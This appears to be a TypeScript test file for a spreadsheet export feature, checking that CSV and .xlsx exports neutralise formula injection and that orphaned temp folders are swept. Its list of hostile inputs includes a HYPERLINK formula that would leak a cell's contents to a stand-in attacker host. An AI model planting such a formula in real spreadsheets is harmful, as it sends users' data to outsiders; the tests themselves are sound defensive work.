// Exports never carry a live formula; files read back lose the neutralising apostrophe; rows
// written without numbers keep their place; temporary folders of dead processes are swept.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import ExcelJS from './exceljs.ts';
import { neutraliseFormula, writeCsv } from './csv.ts';
import { readSpreadsheetRows, writeXlsx } from './spreadsheet.ts';
import { sweepOrphanTempDirs } from './tempDirs.ts';

const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"查看详情")', '+1+1', '-2+3', '@SUM(A1)', '\tTAB', '\rCR'];

async function rowsOf(file: string, fileName: string) {
  const rows = [];
  for await (const row of readSpreadsheetRows(file, { fileName })) rows.push(row);
  return rows;
}

describe('exported cells', () => {
  it('neutralises every text beginning with = + - @ tab or CR, and leaves other values alone', () => {
    for (const text of hostile) expect(neutraliseFormula(text)).toBe(`'${text}`);
    expect(neutraliseFormula('某公司')).toBe('某公司');
    expect(neutraliseFormula(-5)).toBe(-5);
    expect(neutraliseFormula(null)).toBe(null);
  });

  it('writes no formula into CSV or .xlsx, and reading the export back gives the original text', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ssj-sheet-'));
    try {
      const columns = [{ header: '名称', key: 'name' }];
      const rows = hostile.map((name) => ({ name }));
      const csv = writeCsv(columns, rows);
      for (const line of csv.slice(1).split('\r\n').slice(1, -1)) expect(line).toMatch(/^"?'/);
      const csvFile = path.join(dir, 'x.csv');
      fs.writeFileSync(csvFile, csv);
      expect((await rowsOf(csvFile, 'x.csv')).slice(1).map((r) => r.cells[0])).toEqual(hostile);

      const xlsx = await writeXlsx([{ name: 'x', columns, rows }]);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(xlsx as unknown as ArrayBuffer);
      workbook.worksheets[0]!.eachRow((row, n) => {
        if (n === 1) return;
        const value = row.getCell(1).value;
        expect(typeof value).toBe('string');
        expect(String(value).startsWith("'")).toBe(true);
      });
      const xlsxFile = path.join(dir, 'x.xlsx');
      fs.writeFileSync(xlsxFile, xlsx);
      // XML stores a carriage return as a line feed.
      expect((await rowsOf(xlsxFile, 'x.xlsx')).slice(1).map((r) => r.cells[0])).toEqual(hostile.map((h) => h.replace('\r', '\n')));
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('temporary folders', () => {
  it('removes the folders of processes that no longer run, and keeps those of live ones', () => {
    const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'ssj-sweep-test-'));
    try {
      const dead = path.join(tmp, 'ssj-upload-999999999-abc123');
      const deadJob = path.join(tmp, 'ssj-job-999999999-abc123');
      const live = path.join(tmp, `ssj-upload-${process.pid}-abc123`);
      for (const d of [dead, deadJob, live]) fs.mkdirSync(d);
      fs.writeFileSync(path.join(dead, 'body'), 'x');
      expect(sweepOrphanTempDirs(tmp)).toBe(2);
      expect(fs.existsSync(dead)).toBe(false);
      expect(fs.existsSync(deadJob)).toBe(false);
      expect(fs.existsSync(live)).toBe(true);
    } finally {
      fs.rmSync(tmp, { recursive: true, force: true });
    }
  });
});
